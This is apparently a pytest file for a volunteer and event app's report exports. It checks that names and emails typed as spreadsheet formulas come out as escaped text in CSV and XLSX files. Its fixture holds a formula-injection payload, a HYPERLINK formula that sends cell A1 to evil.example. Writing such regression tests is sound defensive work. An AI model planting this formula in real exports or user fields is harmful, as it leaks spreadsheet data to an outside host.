"""Typed text never becomes a live formula in an export (issue 11, item 1): a guest named
=HYPERLINK(...) or a relawan with email =1+1@... ended up as formula cells in the XLSX exports of
registrants, relawan and attendance while the CSV export already neutralised them. Both formats now
share reports.exports.spreadsheet_text."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from auth.models import User
from events.models import Registration
from extensions import db
from relawan.models import Relawan
from reports.exports import spreadsheet_text

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
FORMULA_EMAIL = "=1+1@example.com"


@pytest.fixture
def poisoned(world, app):
    """Relawan A's name and email, and the walk-in guest's name, typed as formulas."""
    with app.app_context():
        ani = db.session.get(Relawan, world.p["A"].id)
        ani.full_name = FORMULA_NAME
        db.session.get(User, ani.user_id).email = FORMULA_EMAIL
        guest = db.session.scalars(db.select(Registration).where(
            Registration.guest_name.isnot(None))).first()
        guest.guest_name = "+" + FORMULA_NAME[1:]
        db.session.commit()
    return world


def _urls(world):
    return {"relawan": "/laporan/ekspor?data=relawan&format={fmt}",
            "pendaftar": f"/laporan/ekspor?data=pendaftar&format={{fmt}}&event={world.ids.e1}",
            "kehadiran": f"/laporan/ekspor?data=kehadiran&format={{fmt}}&program={world.ids.program}"}


def _xlsx_cells(resp):
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data)).active
    return [cell for row in ws.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("role", ["admin", "panitia"])
@pytest.mark.parametrize("kind", ["relawan", "pendaftar", "kehadiran"])
def test_typed_formulas_are_string_cells_in_every_xlsx_export(poisoned, login_as, role, kind):
    c = login_as(role)
    cells = _xlsx_cells(c.get(_urls(poisoned)[kind].format(fmt="xlsx")))
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    typed = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert typed  # the poisoned name is in this export
    for cell in typed:
        assert cell.data_type == "s" and cell.value.startswith("'")
    if kind == "relawan":
        emails = [cell for cell in cells if cell.value == "'" + FORMULA_EMAIL]
        assert len(emails) == 1 and emails[0].data_type == "s"


@pytest.mark.parametrize("kind", ["relawan", "pendaftar", "kehadiran"])
def test_csv_and_xlsx_neutralise_the_same_way(poisoned, login_as, kind):
    c = login_as("admin")
    text = c.get(_urls(poisoned)[kind].format(fmt="csv")).get_data(as_text=True)
    csv_values = {v for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for v in row}
    xlsx_values = {cell.value for cell in _xlsx_cells(c.get(_urls(poisoned)[kind].format(fmt="xlsx")))}
    poisoned_values = {v for v in csv_values if "HYPERLINK" in v}
    assert poisoned_values and poisoned_values <= xlsx_values
    assert all(v.startswith("'") for v in poisoned_values)


def test_spreadsheet_text_is_the_one_rule():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_text("\tx") == "'\tx"
    assert spreadsheet_text("a\x1bb") == "ab"  # an XLSX cannot hold control characters
    assert spreadsheet_text("Siti Aminah") == "Siti Aminah"
    assert spreadsheet_text(42) == 42 and spreadsheet_text(None) is None
